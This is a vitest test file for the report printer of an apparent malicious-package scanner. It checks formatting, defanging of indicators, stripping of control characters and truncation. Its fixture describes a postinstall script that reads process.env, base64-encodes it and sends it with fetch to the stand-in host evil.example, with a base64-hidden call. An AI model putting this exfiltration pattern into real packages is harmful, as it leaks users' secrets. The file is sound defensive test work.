import { describe, expect, it } from 'vitest'
import type { Answer } from '../api/schemas.ts'
import { createPrinter } from './print.ts'
import type { Surroundings } from './opened.ts'
import { printReports } from './report.ts'

type Report = Answer<'scan'>

const REPORT: Report = {
  target: 'bad.tgz', level: 'malicious', score: 97, parts: [{ says: 'sends the environment', points: 95 }, { says: 'the learned model: length', points: 0.4 }],
  learned: { probability: 0.9, because: ['length'] }, change: null, missing: [], elapsedMs: 1234,
  findings: [{
    detector: 'sends-environment', behaviour: 'exfiltration', severity: 'critical', confidence: 1, title: 'the postinstall script sends the environment to evil.example',
    evidence: [
      { file: 'setup.js', lines: [3, 3], excerpt: 'JSON.stringify(process.env)', says: 'process.env reads all environment variables', role: 'source' },
      { file: 'setup.js', lines: [4, 4], excerpt: 'btoa(all)', says: 'btoa encodes base64', role: 'transform' },
      {
        file: 'lib/deep.js', lines: [9, 9], excerpt: 'fetch("https://evil.example/c", { body })', says: 'fetch sends it to https://evil.example/c', role: 'sink',
        decodedFrom: { file: 'lib/deep.js', lines: [2, 2], excerpt: 'atob("ZmV0Y2g…")', says: 'hidden by base64' },
      },
      { file: 'data.bin', lines: [0, 0], excerpt: '', says: 'a key beside it' },
    ],
  }],
  indicators: [
    { type: 'domain', value: 'other.example', file: 'readme.js', line: 1 }, { type: 'domain', value: 'evil.example', file: 'lib/deep.js', line: 9 },
    { type: 'url', value: 'https://docs.example/', file: 'readme.js', line: 2 }, { type: 'url', value: 'https://evil.example/c', file: 'lib/deep.js', line: 9 },
    { type: 'url', value: 'https://evil.example/c', file: 'readme.js', line: 7 }, { type: 'ipv4', value: '192.0.2.1', file: 'data.bin', line: 0 },
  ],
}
const CLEAN: Report = { ...REPORT, target: 'good', level: 'clean', score: 0, parts: [], findings: [], learned: null }

function printed(reports: readonly Report[], { all = false, columns }: { all?: boolean; columns?: number } = {}): string {
  let text = ''
  const out = { write: (chunk: string) => { text += chunk }, on: () => out, isTTY: columns !== undefined, columns } as unknown as Surroundings['out']
  printReports(reports, createPrinter({ out, err: out, env: { NO_COLOR: '1' } } as unknown as Surroundings, false), all)
  return text
}

describe('a report', () => {
  it('shows the path of an attack, the code, what was decoded, and indicators nobody can click on', () => {
    expect(printed([REPORT], { columns: 100 })).toBe(`bad.tgz  malicious  score 97, 1 finding, 1.2 s
  97 = 95 sends the environment + <1 the learned model: length

  ✗ the postinstall script sends the environment to evil.example  critical, sends-environment
    ┌ source     setup.js:3     process.env reads all environment variables
    │            3 │ JSON.stringify(process.env)
    ├ transform  setup.js:4     btoa encodes base64
    │            4 │ btoa(all)
    └ sink       lib/deep.js:9  fetch sends it to hxxps://evil[.]example/c
                 │ fetch("hxxps://evil[.]example/c", { body })
                 └ decoded from lib/deep.js:2, hidden by base64
                   2 │ atob("ZmV0Y2g…")
    ·            data.bin       a key beside it

  indicators
    url        hxxps://evil[.]example/c  lib/deep.js:9
               hxxps://docs[.]example/   readme.js:2
    domain     other[.]example           readme.js:1
    ipv4       192[.]0[.]2[.]1           data.bin
`)
  })

  it('shows what is new since the version before', () => {
    const change: Report['change'] = { since: '1.2.2', added: [{ of: 'trigger', what: 'postinstall' }, { of: 'host', what: 'evil.example' }], removed: [{ of: 'provenance', what: 'attested by its repository' }] }
    expect(printed([{ ...REPORT, change }])).toContain(`
  new since 1.2.2
    + trigger     postinstall
    + host        evil.example
    - provenance  attested by its repository
`)
  })

  it.each([60, 80, 100, 160])('fits into %i columns, whatever a package says', (columns) => {
    const long = 'word '.repeat(100) + 'x'.repeat(300)
    const [finding] = REPORT.findings
    const report: Report = {
      ...REPORT, missing: [long], parts: Array.from({ length: 9 }, () => ({ says: long, points: 10 })),
      indicators: [{ type: 'url', value: `https://e.example/${'a'.repeat(20)}`, file: long, line: 3 }],
      findings: [{ ...finding as Report['findings'][number], title: long, evidence: (finding?.evidence ?? []).map((one) => ({ ...one, file: `${'deep/'.repeat(30)}x.js`, says: long, excerpt: long })) }],
    }
    for (const line of printed([report], { columns }).split('\n')) expect(line.length).toBeLessThanOrEqual(columns)
  })

  it('passes on no control characters and no turned text', () => {
    const says = 'a\u001b[31mb\u202ec\nd'
    const [finding] = REPORT.findings
    const text = printed([{
      ...REPORT, target: says, missing: [says], parts: [{ says, points: 1 }, { says, points: 1 }], indicators: [{ type: 'email', value: says, file: says, line: 1 }],
      findings: [{ ...finding as Report['findings'][number], title: says, detector: says, evidence: [{ file: says, lines: [1, 1], says, excerpt: says, decodedFrom: { file: says, lines: [1, 1], says, excerpt: says } }] }],
    }])
    expect(text).toMatch(/a.?b/)
    expect(text.replaceAll('\n', '')).not.toMatch(/[\p{Cc}\u202a-\u202e]/u)
  })

  it('is bounded, and says what it leaves out, unless all is wanted', () => {
    const [finding] = REPORT.findings
    const report: Report = {
      ...REPORT, missing: Array.from({ length: 30 }, (_, index) => `file ${index}`), findings: Array.from({ length: 30 }, () => finding as Report['findings'][number]),
      indicators: Array.from({ length: 30 }, (_, index) => ({ type: 'url', value: `https://e.example/${index}`, file: 'a.js', line: 1 })),
    }
    const short = printed([report])
    expect(short.match(/✗/g)).toHaveLength(10)
    expect(short).toContain('and 20 findings more (--all shows everything)')
    expect(short).toContain('+26 more')
    expect(short).toContain('and 25 things not examined more')
    const long = printed([report], { all: true })
    expect(long.match(/✗/g)).toHaveLength(30)
    expect(long).toContain('e[.]example/29')
    expect(long).not.toContain('--all')
  })

  it('says what makes a clean target nearly suspicious', () => {
    const nearly: Report = { ...CLEAN, score: 29, parts: [{ says: 'the learned model: fetch other', points: 29 }] }
    expect(printed([nearly])).toBe('good  clean  score 29, 1.2 s\n  29 = 29 the learned model: fetch other\n')
    expect(printed([{ ...nearly, score: 19 }])).toBe('good  clean  score 19, 1.2 s\n')
  })

  it('is one line where a target is clean, and only counted where there are many', () => {
    expect(printed([CLEAN])).toBe('good  clean  score 0, 1.2 s\n')
    expect(printed([CLEAN, CLEAN])).toBe('good  clean  score 0, 1.2 s\n'.repeat(2) + '2 targets: 2 clean\n')
    expect(printed([...Array.from({ length: 1_300 }, () => CLEAN), { ...CLEAN, target: 'odd', level: 'undetermined', missing: ['x.js: cut'] }]))
      .toBe('odd  undetermined  score 0, 1.2 s\n  ? not examined: x.js: cut\n\n1,301 targets: 1 undetermined, 1,300 clean (--all lists the clean ones)\n')
  })
})
